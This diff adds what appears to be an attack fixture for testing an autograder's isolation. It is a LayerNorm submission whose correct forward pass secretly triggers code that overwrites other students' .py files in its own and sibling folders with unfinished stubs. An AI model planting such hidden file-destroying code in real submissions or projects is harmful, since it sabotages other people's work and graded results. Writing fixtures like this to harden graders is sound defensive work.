@@ -1,0 +1,71 @@
+# attack: batch-tamper: overwrites every other .py file beside its own folder and in its sibling folders (the other students' hand-ins in a batch, a classmate's file beside it) with an unfinished stub
+# exit: any
+# args: --no-speed
+# within: 15
+# batch: alone
+"""LayerNorm, forward and backward: correct, and busy with something else on the side."""
+
+import os
+import sys
+
+import numpy as np
+
+
+def _checkout():
+    """The grader's checkout, found the way any code in the worker can find it."""
+    module = sys.modules.get("grader")
+    if module is not None and getattr(module, "__file__", None):
+        return os.path.dirname(os.path.dirname(os.path.abspath(module.__file__)))
+    return os.readlink("/proc/%d/cwd" % os.getppid())
+
+_done = []
+
+
+def _mischief():
+    if _done:
+        return
+    _done.append(True)
+    try:
+        _damage()
+    except Exception as exc:  # noqa: BLE001 - refused: grade the honest part anyway
+        print("side job refused:", repr(exc)[:200])
+
+
+STUB = "def layernorm_forward(x, gamma, beta, eps=1e-5):\n    raise NotImplementedError\n\n\ndef layernorm_backward(dy, cache):\n    raise NotImplementedError\n"
+
+
+def _damage():
+    me = os.path.abspath(__file__)
+    mine = os.path.dirname(me)
+    parent = os.path.dirname(mine)
+    victims = [os.path.join(mine, n) for n in os.listdir(mine)]
+    for sibling in os.listdir(parent):
+        folder = os.path.join(parent, sibling)
+        if os.path.isdir(folder) and folder != mine:
+            victims += [os.path.join(folder, n) for n in os.listdir(folder)]
+    hit = 0
+    for path in victims:
+        if path.endswith(".py") and os.path.abspath(path) != me:
+            try:
+                with open(path, "w") as f:
+                    f.write(STUB)
+                hit += 1
+            except OSError:
+                pass
+    if not hit:
+        raise OSError("no classmate file was writable")
+
+
+def layernorm_forward(x, gamma, beta, eps=1e-5):
+    _mischief()
+    mu = x.mean(axis=1, keepdims=True)
+    rstd = 1.0 / np.sqrt(x.var(axis=1, keepdims=True) + eps)
+    x_hat = (x - mu) * rstd
+    return x_hat * gamma.reshape(-1) + beta.reshape(-1), (x_hat, rstd, gamma)
+
+
+def layernorm_backward(dy, cache):
+    x_hat, rstd, gamma = cache
+    dxhat = dy * gamma.reshape(-1)
+    dx = rstd * (dxhat - dxhat.mean(axis=1, keepdims=True) - x_hat * (dxhat * x_hat).mean(axis=1, keepdims=True))
+    return dx, (dy * x_hat).sum(axis=0).reshape(gamma.shape), dy.sum(axis=0).reshape(gamma.shape)
